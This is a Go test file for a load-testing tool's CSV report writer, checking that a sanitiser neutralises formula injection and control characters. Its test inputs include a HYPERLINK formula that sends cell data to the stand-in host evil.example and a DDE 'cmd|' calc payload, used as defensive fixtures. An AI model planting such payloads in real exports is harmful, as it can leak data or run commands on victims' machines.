package report

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/herdload/herd/internal/stats"
)

func TestCSVText(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		// Left alone.
		{"", ""},
		{"/api/items?tags=a,b", "/api/items?tags=a,b"},
		{"GET", "GET"},
		{"/a=b+c-d@e", "/a=b+c-d@e"},
		{"/café/日本語", "/café/日本語"},
		{"line one\nline two\ttab\r\n", "line one\nline two\ttab\r\n"},
		{" =1+1", " =1+1"},
		{"'=1+1", "'=1+1"},
		{"\uFFFD", "\uFFFD"},
		// Formulas: a leading quote.
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠A1", "'＠A1"},
		{"=", "'="},
		// Control characters and invalid UTF-8: U+FFFD.
		{"/a\x00b", "/a\uFFFDb"},
		{"\x1b[31mred\x1b[0m", "\uFFFD[31mred\uFFFD[0m"},
		{"bell\x07 del\x7f", "bell\uFFFD del\uFFFD"},
		{"c1\u0085\u009b", "c1\uFFFD\uFFFD"},
		{"bad\xffutf8\xc3", "bad\uFFFDutf8\uFFFD"},
		{"\x00=1+1", "\uFFFD=1+1"},
		// Both: replaced first, then quoted.
		{"=A1\x1b", "'=A1\uFFFD"},
		{"-\xff", "'-\uFFFD"},
	}
	for _, tt := range tests {
		if got := csvText(tt.in); got != tt.want {
			t.Errorf("csvText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVTextCleanNoAlloc: the usual names cost no allocation.
func TestCSVTextCleanNoAlloc(t *testing.T) {
	for _, s := range []string{"/api/items/{id}", "GET", "/café/日本語", "HTTP 500: {\"error\": \"db, down\"}\n(after 30s)"} {
		if n := testing.AllocsPerRun(100, func() { _ = csvText(s) }); n != 0 {
			t.Errorf("csvText(%q): %v allocations", s, n)
		}
	}
}

func BenchmarkCSVText(b *testing.B) {
	for _, bc := range []struct{ name, s string }{
		{"clean", "/api/v2/organisations/{org}/projects/{project}"},
		{"unicode", "/café/日本語/produits/{id}"},
		{"formula", `=HYPERLINK("http://evil.example","x")`},
		{"control", "/a\x1b[31m/b"},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				_ = csvText(bc.s)
			}
		})
	}
}

// hostile is a snapshot whose texts are spreadsheet formulas and control
// bytes, as a target or a test could make them, with a negative figure
// where a number column can hold one (a history row before 1970).
func hostile() (*stats.Snapshot, []stats.HistoryRow) {
	const link = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	entry := func(method, name string) stats.Entry {
		return stats.Entry{
			Method: method, Name: name, Requests: 2, Failures: 1,
			Min: ms(1), Max: ms(3), Mean: ms(2), Median: ms(2),
			Percentiles: pcts(2, 2, 3, 3, 3, 3, 3, 3, 3, 3, 3), TotalSize: 10, RPS: 0.5, FailPerSec: 0.25,
		}
	}
	s := &stats.Snapshot{
		Time: t0.Add(4 * time.Second), Start: t0, Duration: 4 * time.Second, Users: 1,
		Entries: []stats.Entry{
			entry("GET", link),
			entry("@SUM", "+1-2"),
			entry("GET", "-10"),
			entry("GET", "/esc\x1b[2J\x00"),
			entry("=cmd", "\t=1+1"),
		},
		Total: entry("", stats.TotalName),
		Failures: []stats.Failure{
			{Method: "GET", Name: link, Error: "=1+1", Occurrences: 1},
			{Method: "GET", Name: "-10", Error: "@A1\x07", Occurrences: 1},
		},
		Errors: []stats.Error{
			{Message: "+formula", Trace: "-trace\x1b", Count: 2, Nodes: []string{"=evil", "worker-1"}},
		},
	}
	history := []stats.HistoryRow{
		{Time: time.Unix(-86400, 0), Users: 1, Method: "GET", Name: link, Requests: 2, Median: ms(2), Mean: ms(2), Min: ms(1), Max: ms(3)},
	}
	return s, history
}

// csvWriters are the CSV files and their writers, as the goldens name them.
var csvWriters = []struct {
	file  string
	write func(io.Writer, *stats.Snapshot, []stats.HistoryRow) error
}{
	{"hostile_stats.csv", func(w io.Writer, s *stats.Snapshot, _ []stats.HistoryRow) error { return WriteStatsCSV(w, s) }},
	{"hostile_failures.csv", func(w io.Writer, s *stats.Snapshot, _ []stats.HistoryRow) error { return WriteFailuresCSV(w, s) }},
	{"hostile_exceptions.csv", func(w io.Writer, s *stats.Snapshot, _ []stats.HistoryRow) error { return WriteExceptionsCSV(w, s) }},
	{"hostile_stats_history.csv", func(w io.Writer, _ *stats.Snapshot, h []stats.HistoryRow) error {
		if err := WriteHistoryHeader(w); err != nil {
			return err
		}
		return WriteHistoryRows(w, h)
	}},
}

// TestCSVNeutralised: in every CSV file, no cell of a hostile snapshot
// starts a formula or holds a control byte but tab, LF and CR, except the
// number cells, which are left as they are (the history's negative
// timestamp); the files match their goldens.
func TestCSVNeutralised(t *testing.T) {
	t.Parallel()
	snap, history := hostile()
	for _, w := range csvWriters {
		t.Run(w.file, func(t *testing.T) {
			t.Parallel()
			var b bytes.Buffer
			if err := w.write(&b, snap, history); err != nil {
				t.Fatal(err)
			}
			golden(t, w.file, b.Bytes())
			r := csv.NewReader(bytes.NewReader(b.Bytes()))
			r.FieldsPerRecord = -1
			records, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, rec := range records[1:] {
				for i, cell := range rec {
					if strings.HasPrefix(records[0][i], "Timestamp") || cell == "" {
						continue
					}
					if first, _ := utf8.DecodeRuneInString(cell); formulaStart(first) {
						t.Errorf("column %s: %q starts a formula", records[0][i], cell)
					}
					if strings.IndexFunc(cell, func(r rune) bool { return unicode.IsControl(r) && r != '\t' && r != '\n' && r != '\r' }) >= 0 ||
						!utf8.ValidString(cell) {
						t.Errorf("column %s: %q holds a control byte", records[0][i], cell)
					}
				}
			}
			if w.file == "hostile_stats_history.csv" && records[1][0] != "-86400" {
				t.Errorf("the negative timestamp became %q", records[1][0])
			}
		})
	}
}

// FuzzCSVText: the output is valid UTF-8 without control characters but
// tab, LF and CR, never starts a formula, keeps a clean text as it is, is
// a fixed point, and survives a CSV round trip.
func FuzzCSVText(f *testing.F) {
	for _, s := range []string{"", "/x", "=1+1", "-1", "\t=", "＝", "\x00", "\xff", "a\r\nb", `"q",x`, "'=", "\u0085"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := csvText(s)
		if !utf8.ValidString(got) {
			t.Fatalf("csvText(%q) = %q: invalid UTF-8", s, got)
		}
		if strings.IndexFunc(got, func(r rune) bool { return unicode.IsControl(r) && r != '\t' && r != '\n' && r != '\r' }) >= 0 {
			t.Fatalf("csvText(%q) = %q: a control character", s, got)
		}
		if r, _ := utf8.DecodeRuneInString(got); formulaStart(r) {
			t.Fatalf("csvText(%q) = %q starts a formula", s, got)
		}
		first, _ := utf8.DecodeRuneInString(s)
		if csvClean(s) && !formulaStart(first) && got != s {
			t.Fatalf("csvText(%q) = %q changed a clean text", s, got)
		}
		if again := csvText(got); again != got {
			t.Fatalf("csvText is not idempotent: %q → %q → %q", s, got, again)
		}
		// encoding/csv drops a CR before LF, even in a quoted field.
		rec, err := csv.NewReader(bytes.NewReader(appendRecord(nil, got, "1"))).Read()
		if want := strings.ReplaceAll(got, "\r\n", "\n"); err != nil || len(rec) != 2 || rec[0] != want || rec[1] != "1" {
			t.Fatalf("round trip of %q: %q, %v", got, rec, err)
		}
	})
}
